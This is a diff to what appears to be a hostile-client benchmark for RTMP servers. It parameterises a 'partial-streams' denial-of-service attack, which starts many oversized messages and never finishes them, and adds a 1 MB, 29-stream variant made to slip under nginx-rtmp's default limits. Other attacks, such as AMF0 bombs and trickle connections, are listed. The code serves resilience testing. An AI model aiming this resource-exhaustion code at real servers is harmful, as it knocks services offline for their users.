@@ -7,7 +7,7 @@ the protocol, not against afterlive, so `bench/hostile.py` runs the same attacks
     nested-aggregate   an Aggregate message nested thousands of levels deep, ~2 MB
     amf0-bomb          a 4 KB command whose values are references to one large object
     partial-streams    messages started on 61 chunk streams, never finished, sent as fast as
-                       the server reads
+                       the server reads (16 MB messages; partial-streams-1mb: 1 MB ones on 29)
     trickle            a handshake, then a byte now and then, never a publish
     idle               a TCP connection that sends nothing (held for `hold_s`)
     unknown-key        a full connect and publish with a key nobody has
@@ -17,6 +17,7 @@ the protocol, not against afterlive, so `bench/hostile.py` runs the same attacks
 from __future__ import annotations
 
 import asyncio
+import functools
 import os
 import random
 import struct
@@ -146,24 +147,28 @@ async def _bomb(reader, writer, out: Outcome, hold_s: float) -> None:
     out.closed_by_server = await _closed(reader, hold_s)
 
 
-async def _partial(reader, writer, out: Outcome, hold_s: float) -> None:
-    """61 chunk streams each start a 16 MB message; chunks of 64 KB go round the streams for
-    as long as the server takes them, none finishing its message."""
+async def _partial(
+    reader, writer, out: Outcome, hold_s: float, size: int = (1 << 24) - 1, streams: int = 61
+) -> None:
+    """`streams` chunk streams each start a message of `size` (the protocol's largest by
+    default);
+    chunks of 64 KB go round the streams for as long as the server takes them, none finishing
+    its message."""
     await _handshake(reader, writer)
     chunk = 1 << 16
     writer.write(encode_message(Message(SET_CHUNK_SIZE, 0, 0, struct.pack(">I", chunk), 2), 128))
-    size = (1 << 24) - 1
     data = bytes(chunk)
     loop = asyncio.get_running_loop()
     end = loop.time() + hold_s
     watcher = asyncio.ensure_future(_closed(reader, hold_s))
-    for csid in range(3, 64):  # type-0 headers: each stream starts a message
+    csids = range(3, 3 + streams)
+    for csid in csids:  # type-0 headers: each stream starts a message
         header = bytes([csid]) + bytes(3) + size.to_bytes(3, "big") + bytes([VIDEO]) + bytes(4)
         writer.write(header + data)
         out.sent += len(header) + chunk
     sent_per_stream = 1
     while loop.time() < end and not watcher.done() and sent_per_stream * chunk < size - chunk:
-        for csid in range(3, 64):
+        for csid in csids:
             if writer.transport.is_closing():
                 break
             writer.write(bytes([0xC0 | csid]) + data)
@@ -226,6 +231,8 @@ ATTACKS: dict[str, Callable[..., Awaitable[None]]] = {
     "nested-aggregate": _nested,
     "amf0-bomb": _bomb,
     "partial-streams": _partial,
+    # Under nginx-rtmp's defaults (max_message 1 MB, max_streams 32), which refuse the others.
+    "partial-streams-1mb": functools.partial(_partial, size=1_000_000, streams=29),
     "trickle": _trickle,
     "idle": _idle,
     "unknown-key": _unknown_key,
